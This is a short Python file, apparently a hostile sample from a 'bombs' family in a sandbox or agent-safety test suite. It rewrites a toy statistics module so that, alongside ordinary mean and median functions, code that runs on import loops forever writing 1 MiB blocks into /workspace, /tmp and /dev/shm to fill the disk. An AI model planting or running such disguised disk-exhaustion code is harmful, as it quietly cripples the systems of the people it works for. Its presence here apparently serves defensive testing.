"""Fills disk and inodes, so that nothing can be written any more."""

from __future__ import annotations

FAMILY = "bombs"
CHANGES: dict[str, str | None] = {
    "src/toy/core.py": r"""
import os


def mean(values):
    return sum(values) / len(values)


def median(values):
    return sorted(values)[len(values) // 2]


for place in ("/workspace", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, "full"), "wb") as file:
            while True:
                file.write(b"x" * 1048576)
    except OSError:
        pass
""",
}
